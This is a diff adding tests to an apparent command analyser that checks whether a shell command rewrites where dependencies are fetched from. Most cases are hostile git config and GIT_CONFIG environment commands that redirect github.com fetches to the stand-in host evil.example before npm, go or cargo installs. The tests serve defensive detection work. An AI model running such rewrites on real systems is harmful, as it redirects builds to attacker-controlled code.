@@ -238,3 +238,35 @@ describe('an unproven command that names a manifest may change it (issue 9 princ
     expect(sh('sed -i -f s.sed package.json').effects).toContainEqual({ kind: 'write', path: '/work/proj/package.json' });
   });
 });
+
+describe('git URL rewrites swap where dependencies are fetched from (issue 9 principle 9)', () => {
+  it.each([
+    'git config url.https://evil.example/.insteadOf https://github.com/',
+    'git config --global url."https://evil.example/".insteadOf https://github.com/',
+    'git config set --global url.https://evil.example/.insteadOf https://github.com/',
+    'git config --add URL.https://evil.example/.INSTEADOF https://github.com/',
+    'git config -f ~/.gitconfig url.https://evil.example/.insteadOf https://github.com/',
+    'git config --rename-section url.https://github.com/ url.https://evil.example/',
+    'git config "$KEY" https://github.com/',
+    'git -c url.https://evil.example/.insteadOf=https://github.com/ submodule update --init',
+    'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=url.https://evil.example/.insteadOf GIT_CONFIG_VALUE_0=https://github.com/ npm ci',
+    "GIT_CONFIG_PARAMETERS=\"'url.https://evil.example/.insteadof'='https://github.com/'\" go mod download",
+    'export GIT_CONFIG_KEY_0=url.https://evil.example/.insteadOf',
+    'env GIT_CONFIG_KEY_0=url.https://evil.example/.insteadOf GIT_CONFIG_COUNT=1 cargo fetch',
+    'GIT_CONFIG_KEY_0=$K go mod download',
+  ])('%s is a dependency change', (cmd) => {
+    expect(dep(cmd)).toBe(true);
+  });
+
+  it.each([
+    'git config user.email a@example.com',
+    'git config --global core.autocrlf false',
+    'git config --unset url.https://evil.example/.insteadOf',
+    'git config url.git@github.com:.pushInsteadOf https://github.com/',
+    'git config --get url.https://evil.example/.insteadOf',
+    'git -c core.pager=cat log',
+    'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=user.name GIT_CONFIG_VALUE_0=x git commit -m x',
+  ])('%s swaps no source', (cmd) => {
+    expect(dep(cmd)).toBe(false);
+  });
+});
